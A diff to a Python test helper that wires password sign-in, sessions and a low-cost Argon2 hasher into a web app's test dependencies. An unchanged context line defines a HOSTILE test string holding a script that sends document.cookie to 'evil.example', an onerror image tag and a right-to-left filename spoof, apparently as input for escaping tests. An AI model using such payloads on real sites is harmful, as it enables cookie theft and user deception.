@@ -13,6 +13,7 @@ from prometheus_client import CollectorRegistry
 
 from diagnoser.adapters.files import bundled, text
 from diagnoser.adapters.memory import LocalWakeSignal
+from diagnoser.adapters.passwords import Argon2Passwords
 from diagnoser.adapters.sql.store import SqlStore
 from diagnoser.compress import Compressor, pack
 from diagnoser.config.alerting import load_table
@@ -59,6 +60,7 @@ from diagnoser.model import (
 from diagnoser.model.access import Token
 from diagnoser.model.errors import OutOfScope, Unavailable
 from diagnoser.model.ids import id_of
+from diagnoser.model.people import SessionLimits
 from diagnoser.model.taxonomy import Action, FailureType, Outcome, category_of
 from diagnoser.notifications.routing import AlertRouting
 from diagnoser.observability.metrics import Metrics
@@ -73,6 +75,8 @@ from diagnoser.web.authenticator import Authenticator
 from diagnoser.web.dependencies import AppDependencies, HealthChecks, WebConfig
 from diagnoser.web.news import NewsFeed
 from diagnoser.web.server import create
+from diagnoser.web.sessions import Sessions
+from diagnoser.web.sign_in import PasswordSignIn
 from diagnoser.web.trends import FailureTrends
 from tests import accuracy_bars
 from tests.databases import sqlite_store
@@ -82,6 +86,9 @@ HOSTILE = (
     "<script>fetch('//evil.example/'+document.cookie)</script> \x1b[31mred \u202etxt.exe <img src=x onerror=alert(1)>"
 )
 TIMING = Timing(exit_grace=0.0, fatal_debounce=0.0, fatal_debounce_max=0.0, exit_grace_after_fatal=0.0)
+
+WEAK_PASSWORDS = Argon2Passwords(is_weak=True)
+"""The real library, with parameters that cost a test nothing."""
 
 
 @dataclass
@@ -179,6 +186,7 @@ def services(store: SqlStore, ingest: FakeIngest, /, **more: object) -> AppDepen
     assert isinstance(commands, PlanCommands)
     clock: Clock = more.pop("clock", lambda: NOW)  # type: ignore[assignment]
     tokens: Sequence[Token] = more.pop("tokens", ())  # type: ignore[assignment]
+    sessions, has_provider = Sessions(store, clock, SessionLimits()), more.get("provider") is not None
     fields: dict[str, object] = {
         "store": store,
         "ingest": ingest,
@@ -193,7 +201,9 @@ def services(store: SqlStore, ingest: FakeIngest, /, **more: object) -> AppDepen
         "clock": clock,
         "make_id": commands.planner.make_id,
         "job_access": JobAccess(store, clock),
-        "authenticator": Authenticator(store, tokens, clock),
+        "authenticator": Authenticator(store, tokens, clock, sessions=sessions, provider=has_provider),
+        "sessions": sessions,
+        "sign_in": PasswordSignIn(store, WEAK_PASSWORDS, clock),
         "attempts_due": LocalWakeSignal(),
         "news": NewsFeed(store, clock),
         "trends": FailureTrends(store, clock),
